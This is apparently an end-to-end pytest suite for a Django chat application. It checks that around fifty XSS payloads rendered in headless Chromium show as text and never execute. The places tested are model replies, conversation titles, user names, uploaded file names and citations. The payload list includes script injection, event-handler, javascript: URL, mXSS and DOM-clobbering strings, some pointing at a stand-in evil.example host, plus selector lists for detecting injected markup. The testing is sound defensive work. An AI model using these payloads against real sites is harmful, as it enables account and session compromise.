"""XSS payloads in every place a user or the model can put text, rendered in headless Chromium.

Places: model output (markdown rendered by the page), conversation titles (sidebar, heading,
<title>, rename field), user names (top bar, admin lists) and uploaded file names (admin). Each
payload tries to run script: it sets `window.__xss`, calls `alert`, or navigates. The checks:
no script ran (`window.__xss` stays unset, no dialog opened, the page did not navigate away),
no dangerous element or attribute reached the DOM, and the payload shows as text where the page
shows text.
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys

import pytest
import requests
from PIL import Image
from playwright.sync_api import expect

from tests.e2e.conftest import E2E_USER, ROOT, open_empty_conversation

PAYLOADS = [
    "<script>window.__xss='script'</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"window.__xss='img'\">",
    "<img src=x oNeRrOr=window.__xss='img2'>",
    "<svg onload=\"window.__xss='svg'\"></svg>",
    "<svg><script>window.__xss='svgscript'</script></svg>",
    "<svg><animate onbegin=\"window.__xss='animate'\" attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\">",
    "<math href=\"javascript:window.__xss='math'\">click</math>",
    "<body onload=\"window.__xss='body'\">",
    "<iframe src=\"javascript:parent.__xss='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
    "<object data=\"javascript:window.__xss='object'\"></object>",
    "<embed src=\"javascript:window.__xss='embed'\">",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=\'meta\'">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<form action=\"javascript:window.__xss='form'\"><button>go</button></form>",
    "<input autofocus onfocus=\"window.__xss='autofocus'\">",
    "<details open ontoggle=\"window.__xss='toggle'\">",
    "<a href=\"javascript:window.__xss='a'\">a-link</a>",
    "<a href=\"JaVaScRiPt:window.__xss='case'\">case-link</a>",
    "<a href=\"&#106;avascript:window.__xss='entity'\">entity-link</a>",
    "<a href=\"java\tscript:window.__xss='tab'\">tab-link</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data-link</a>',
    '<a href="vbscript:msgbox(1)">vb-link</a>',
    "[md-link](javascript:window.__xss='md')",
    "[md-entity](&#x6A;avascript:window.__xss='mdent')",
    "[md-data](data:text/html,<script>window.__xss='mddata'</script>)",
    "![md-img](x\" onerror=\"window.__xss='mdimg')",
    "![md-img2](javascript:window.__xss='mdimg2')",
    "[ref-link][r]\n\n[r]: javascript:window.__xss='ref'",
    "<https://example.com/\"onmouseover=\"window.__xss='autolink'>",
    "```html\n<script>window.__xss='fence'</script>\n```",
    "`<img src=x onerror=window.__xss='inline'>`",
    "<div style=\"background:url(javascript:window.__xss='css')\">css</div>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "\u202e<script>window.__xss='rtl'</script>\u202c",
    "[homoglyph](ϳavascript:window.__xss='homoglyph')",
    "&lt;script&gt;window.__xss='entities'&lt;/script&gt;",
    "{{ 7*7 }} ${window.__xss='template'} {% csrf_token %}",
    '<div id="chat-config">{"ws_path": "//evil.example/"}</div>',
    '<img name="getElementById"><form id="messages"></form><a id="__xss" href="x">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='noscript'>\">",
    "<template><script>window.__xss='template-tag'</script></template>",
    "<xmp><script>window.__xss='xmp'</script></xmp>",
    "\"><script>window.__xss='attr-break'</script>",
    "'-window.__xss='quote'-'",
    "</textarea><script>window.__xss='textarea'</script>",
    "</title><script>window.__xss='title'</script>",
]
DANGEROUS = (
    "script, iframe, object, embed, base, meta, link, style, form, frame, frameset, "
    "[onerror], [onload], [onbegin], [onfocus], [ontoggle], [onmouseover], [srcdoc], "
    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], "
    "img[src^='javascript' i], math[href]"
)
# In page chrome (sidebar, admin), the app's own forms and static scripts are expected.
INJECTED = (
    "script:not([src^='/static/']), iframe, object, embed, base, "
    "body meta[http-equiv], frame, frameset, form[action^='javascript' i], "
    "[onerror], [onload], [onbegin], [onfocus], [ontoggle], [onmouseover], [srcdoc], "
    "a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], "
    "img[src^='javascript' i], math[href], svg"
)
WATCH = """
window.__xss = undefined;
window.alert = window.confirm = window.prompt = (m) => { window.__xss = 'dialog:' + m; };
"""


@pytest.fixture(scope="session")
def app_env(app_env):
    """This module's server uses the in-memory channel layer: with the shared Redis, pub/sub
    groups (`conversation.<id>`) are server-wide, so parallel runs would hear each other."""
    env = dict(app_env)
    env.pop("REDIS_URL", None)
    return env


def shell(app_env: dict, code: str) -> str:
    out = subprocess.run(
        [sys.executable, str(ROOT / "manage.py"), "shell", "-c", code],
        env=app_env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    return out.stdout


@pytest.fixture
def watched(logged_in):
    page = logged_in
    page.dialogs = []
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.add_init_script(WATCH)
    page.reload()
    return page


def assert_clean(page, where: str, url_pattern: str | None = None) -> None:
    assert page.evaluate("() => window.__xss") is None, f"{where}: script ran"
    assert page.dialogs == [], f"{where}: a dialog opened"
    if url_pattern:
        assert re.search(url_pattern, page.url), f"{where}: navigated to {page.url}"


def new_chat(page) -> None:
    open_empty_conversation(page)


@pytest.mark.parametrize("half", [0, 1], ids=["first-half", "second-half"])
def test_model_output(watched, half):
    """All payloads in two replies of the offline model, streamed and then reloaded."""
    page = watched
    batch = PAYLOADS[half::2]
    new_chat(page)
    url = page.url
    text = "\n\n".join(f"MARK{i} {p}" for i, p in enumerate(batch))
    page.get_by_test_id("composer").fill("[[offline reply pace_ms=1]]\n" + text)
    page.get_by_test_id("composer").press("Enter")
    for attempt in ("streamed", "reloaded"):
        reply = page.locator('[data-testid="message"][data-role="assistant"]').last
        expect(reply).to_have_attribute("data-status", "done", timeout=15000)
        page.wait_for_timeout(300)  # let any error handler or refresh fire
        assert_clean(page, f"model output ({attempt})", re.escape(url) + "$")
        body = reply.get_by_test_id("message-body")
        bad = body.locator(DANGEROUS)
        assert bad.count() == 0, f"{attempt}: {bad.first.evaluate('e => e.outerHTML')}"
        shown = body.inner_text()
        for i in range(len(batch)):
            assert f"MARK{i}" in shown, f"{attempt}: MARK{i} missing"
        # code is shown as code, verbatim
        if "```html\n<script>window.__xss='fence'</script>\n```" in batch:
            assert "<script>window.__xss='fence'</script>" in shown
        # no DOM clobbering: the page's own config is the only #chat-config, no named elements
        assert page.locator("#chat-config").count() == 1
        assert body.locator("[id='chat-config'], [name], #messages, #__xss").count() == 0
        # the page's own config was not clobbered: the socket still works
        expect(page.get_by_test_id("connection-status")).to_have_attribute("data-state", "open")
        page.reload()
    assert page.errors == []


def test_conversation_titles(watched, app_env, app_server):
    """Hostile titles (made by the rename form and directly) in the sidebar, heading, <title>
    and the rename field: shown as text, never run."""
    page = watched
    titles = [p.replace("\n", " ")[:200] for p in PAYLOADS]
    made = json.loads(
        shell(
            app_env,
            "import json\n"
            "from django.contrib.auth import get_user_model\n"
            "from chat.conversations import lifecycle\n"
            f"user = get_user_model().objects.get(username={E2E_USER!r})\n"
            "ids = []\n"
            f"for title in {json.dumps(titles)}:\n"
            "    c = lifecycle.conversation_create(owner=user)\n"
            "    c.title = title\n"
            "    c.save(update_fields=['title'])\n"
            # written in: the list leaves empty conversations out
            "    c.messages.create(role='user', content=[{'type': 'text', 'text': 'Hi'}])\n"
            "    ids.append(c.pk)\n"
            "print(json.dumps(ids))\n",
        )
        .strip()
        .splitlines()[-1]
    )
    # one more through the rename form, as a user would
    new_chat(page)
    page.get_by_test_id("rename-toggle").click()
    page.get_by_test_id("rename-input").fill(PAYLOADS[2])
    page.get_by_test_id("rename-submit").click()
    page.wait_for_load_state()
    expect(page.get_by_test_id("conversation-title")).to_have_text(PAYLOADS[2])
    assert_clean(page, "renamed title")
    assert page.title().startswith(PAYLOADS[2][:20])

    page.goto(app_server + f"/c/{made[0]}/")
    page.add_init_script(WATCH)
    sidebar = page.get_by_test_id("sidebar").inner_text()
    shown = " ".join(sidebar.split())
    visible = [t for t in titles if " ".join(t.split()) in shown]
    assert len(visible) >= 20, f"only {len(visible)} hostile titles shown as text"
    assert page.get_by_test_id("sidebar").locator(INJECTED).count() == 0
    for pk, title in list(zip(made, titles, strict=False))[:12]:
        page.goto(app_server + f"/c/{pk}/")
        expect(page.get_by_test_id("conversation-title")).to_have_text(" ".join(title.split()))
        assert page.get_by_test_id("rename-input").input_value() == title
        assert page.locator("#chat").locator(INJECTED).count() == 0
        assert_clean(page, f"title {title!r}", rf"/c/{pk}/$")
    assert page.errors == []


def test_user_names_and_file_names(watched, app_env, app_server):
    """Hostile user names in the top bar and the admin; hostile file names in the admin."""
    page = watched
    names = [p.replace("\n", " ")[:150] for p in PAYLOADS[:20]]
    shell(
        app_env,
        "from django.contrib.auth import get_user_model\n"
        "from chat.conversations import lifecycle\n"
        "User = get_user_model()\n"
        f"for i, name in enumerate({json.dumps(names)}):\n"
        "    u = User.objects.create_user(username=name, password='pw-' + str(i) + '-long-enough')\n"
        "    lifecycle.conversation_create(owner=u)\n",
    )
    # the top bar of a user whose name is a payload
    other = page.context.browser.new_context()
    try:
        p2 = other.new_page()
        p2.dialogs = []
        p2.on("dialog", lambda d: (p2.dialogs.append(d.message), d.dismiss()))
        p2.add_init_script(WATCH)
        p2.goto(app_server + "/login/")
        p2.get_by_test_id("login-username").fill(names[2])
        p2.get_by_test_id("login-password").fill("pw-2-long-enough")
        p2.get_by_test_id("login-submit").click()
        p2.wait_for_url(app_server + "/")
        expect(p2.get_by_test_id("username")).to_have_text(names[2])
        assert_clean(p2, "user name in the top bar")
    finally:
        other.close()

    # file names, through the page's own fetch (CSRF token from the page)
    ids = []
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, "PNG")
    data = out.getvalue()
    for name in PAYLOADS[:10]:
        started = page.evaluate(
            """async ([name, size]) => {
                const token = document.querySelector('meta[name=csrf-token]').content;
                const r = await fetch('/attachments/start/', {method: 'POST',
                  headers: {'Content-Type': 'application/json', 'X-CSRFToken': token},
                  body: JSON.stringify({content_type: 'image/png', byte_size: size, name})});
                return await r.json();
            }""",
            [name + ".png", len(data)],
        )
        upload = started["upload"]
        response = requests.post(
            upload["url"], data=upload["fields"], files={"file": ("f", data)}, timeout=10
        )
        assert response.status_code in (200, 201, 204)
        finished = page.evaluate(
            """async (id) => {
                const token = document.querySelector('meta[name=csrf-token]').content;
                const r = await fetch(`/attachments/${id}/finish/`, {method: 'POST',
                  headers: {'X-CSRFToken': token}});
                return r.status;
            }""",
            started["id"],
        )
        assert finished == 200
        ids.append(started["id"])
    assert_clean(page, "after the uploads")

    # the admin (the e2e user is an admin): user list, conversation list, attachments
    for path in [
        "/admin/auth/user/",
        "/admin/chat/conversation/",
        "/admin/chat/attachment/",
        f"/admin/chat/attachment/{ids[0]}/change/",
        f"/admin/chat/attachment/{ids[2]}/change/",
    ]:
        page.goto(app_server + path)
        expect(page.locator("#content")).to_be_visible()
        page.wait_for_timeout(200)
        content = page.locator("#content")
        bad = content.locator(INJECTED)
        assert bad.count() == 0, (path, bad.first.evaluate("e => e.outerHTML"))
        assert_clean(page, path, re.escape(path) + r"(\?.*)?$")
    page.goto(app_server + "/admin/auth/user/?q=svg")
    assert "<svg onload=" in page.locator("#result_list").inner_text()
    page.goto(app_server + "/admin/chat/attachment/")
    listed = page.locator("#result_list").inner_text()
    assert "onerror" in listed and "<img" in listed  # the names, as text
    assert page.errors == []


def test_enough_payloads():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def hostile_reply_content() -> tuple[list, list]:
    """A user message with a hostile document title, and a reply whose search query, result
    titles and URLs, cited texts and document titles are payloads (saved as the API shapes them)."""
    bad_urls = [
        "javascript:window.__xss='source-url'",
        "JaVaScRiPt:window.__xss='source-case'",
        "data:text/html,<script>window.__xss='source-data'</script>",
        'https://example.org/"><img src=x onerror="window.__xss=\'source-attr\'">',
    ]
    results = [
        {"type": "web_search_result", "url": url, "title": PAYLOADS[k], "page_age": PAYLOADS[k + 1]}
        for k, url in enumerate(bad_urls)
    ]
    text = [{"type": "text", "text": "Found:\n\n"}]
    for k, url in enumerate(bad_urls):
        citation = {
            "type": "web_search_result_location",
            "url": url,
            "title": PAYLOADS[k + 4],
            "cited_text": PAYLOADS[k + 8],
        }
        text.append({"type": "text", "text": f"WEB{k} claim", "citations": [citation]})
        text.append({"type": "text", "text": " and "})
    for k in range(4):
        citation = {
            "type": "page_location",
            "document_index": 0,
            "document_title": PAYLOADS[k + 12],
            "cited_text": PAYLOADS[k + 16],
            "start_page_number": k + 1,
            "end_page_number": k + 2,
        }
        text.append({"type": "text", "text": f"DOC{k} claim", "citations": [citation]})
        text.append({"type": "text", "text": ".\n\n"})
    reply = [
        {
            "type": "server_tool_use",
            "id": "srvtoolu_x",
            "name": "web_search",
            "input": {"query": PAYLOADS[2]},
        },
        {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_x", "content": results},
        *text,
    ]
    question = [
        {
            "type": "document",
            "attachment_id": 999999,
            "media_type": "application/pdf",
            "title": PAYLOADS[2],
            "page_count": 3,
        },
        {"type": "text", "text": "What do these say?"},
    ]
    return question, reply


def test_citations_search_results_and_document_titles(watched, app_env, app_server):
    """Hostile search-result titles and URLs, cited text and document titles: text, not markup;
    no URL other than http(s) becomes a link."""
    page = watched
    question, reply = hostile_reply_content()
    pk = int(
        shell(
            app_env,
            "import json\n"
            "from django.contrib.auth import get_user_model\n"
            "from chat.conversations import lifecycle\n"
            "from chat.models import Message\n"
            f"user = get_user_model().objects.get(username={E2E_USER!r})\n"
            "c = lifecycle.conversation_create(owner=user)\n"
            f"q = Message.objects.create(conversation=c, role='user', content=json.loads({json.dumps(json.dumps(question))}))\n"
            f"a = Message.objects.create(conversation=c, role='assistant', parent=q, content=json.loads({json.dumps(json.dumps(reply))}))\n"
            "c.leaf = a\n"
            "c.save(update_fields=['leaf'])\n"
            "print(c.pk)\n",
        )
        .strip()
        .splitlines()[-1]
    )
    page.goto(app_server + f"/c/{pk}/")
    assistant = page.locator('[data-testid="message"][data-role="assistant"]').last
    expect(assistant.get_by_test_id("source")).to_have_count(8)
    markers = assistant.get_by_test_id("cite-marker")
    expect(markers).to_have_count(8)
    for i in range(markers.count()):
        markers.nth(i).click()
        popover = assistant.get_by_test_id("cite-popover")
        expect(popover).to_be_visible()
        assert popover.locator(INJECTED).count() == 0
        page.keyboard.press("Escape")
    step = assistant.get_by_test_id("tool")
    step.locator("summary").click()
    page.wait_for_timeout(300)  # let any error handler fire
    assert_clean(page, "citations", rf"/c/{pk}/$")

    article = page.locator("#messages")
    bad = article.locator(INJECTED)
    assert bad.count() == 0, bad.first.evaluate("e => e.outerHTML")
    # only http(s) sources are links, and they keep their new-tab, no-opener form
    links = article.locator("a[href]")
    for i in range(links.count()):
        href = links.nth(i).get_attribute("href")
        assert href.startswith(("https://", "http://", "/attachments/")), href
    expect(assistant.get_by_test_id("source-link")).to_have_count(1)
    # the payloads show as text where the page shows them
    sources = assistant.get_by_test_id("sources").inner_text()
    for k in range(4, 8):  # the citations' titles
        assert " ".join(PAYLOADS[k].split()) in " ".join(sources.split())
    assert "javascript:window.__xss='source-url'" in sources  # a URL not made a link
    for k in range(12, 16):  # the document titles
        assert " ".join(PAYLOADS[k].split()) in " ".join(sources.split())
    assert PAYLOADS[2] in step.inner_text()  # the search query
    user = page.locator('[data-testid="message"][data-role="user"]').last
    expect(user.get_by_test_id("message-document")).to_contain_text(PAYLOADS[2])
    markers.first.click()
    expect(assistant.get_by_test_id("cited-text")).to_have_text(PAYLOADS[8])
    assert page.errors == []
